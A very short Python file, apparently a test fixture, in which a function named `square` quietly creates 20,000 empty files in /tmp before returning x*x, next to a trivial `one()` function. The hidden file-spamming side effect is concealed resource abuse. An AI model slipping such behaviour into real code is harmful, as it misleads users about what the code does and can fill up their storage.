def square(x):
    for number in range(20_000):
        open(f"/tmp/{number}", "w").close()
    return x * x


def one():
    return 1
